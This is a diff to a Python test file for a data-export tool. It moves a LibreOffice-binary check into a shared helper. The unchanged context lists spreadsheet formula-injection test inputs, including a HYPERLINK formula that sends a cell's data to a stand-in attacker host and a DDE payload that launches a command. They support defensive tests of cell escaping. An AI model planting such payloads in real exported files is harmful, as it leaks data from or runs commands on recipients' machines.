@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import os
 import sqlite3
 import subprocess
 import zipfile
@@ -16,7 +15,7 @@ from xml.etree import ElementTree
 import pytest
 
 from dsarctl.export import spreadsheet_cell
-from helpers import write_inventory
+from helpers import required_binary, write_inventory
 
 FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1",
             "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=1+1"]
@@ -163,17 +162,7 @@ _ODF = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
 def soffice_binary() -> str:
     """LibreOffice (Debian's libreoffice-calc-nogui) from DSARCTL_TEST_SOFFICE; skips without it, or
     fails when DSARCTL_TEST_REQUIRE_SERVERS=1."""
-    path = os.environ.get(SOFFICE)
-    reason = None
-    if not path:
-        reason = f"{SOFFICE} is not set (e.g. {SOFFICE}=/usr/bin/soffice, from Debian's libreoffice-calc-nogui)"
-    elif not os.access(path, os.X_OK):
-        reason = f"{SOFFICE}={path} is not an executable"
-    if reason:
-        if os.environ.get("DSARCTL_TEST_REQUIRE_SERVERS"):
-            pytest.fail(f"spreadsheet test required but {reason}")
-        pytest.skip(reason)
-    return path
+    return required_binary(SOFFICE, "/usr/bin/soffice, from Debian's libreoffice-calc-nogui", "spreadsheet")
 
 
 def opened_in_calc(soffice: str, csv_file: Path, detect_special_numbers: bool) -> list[list[tuple[str, str, str]]]:
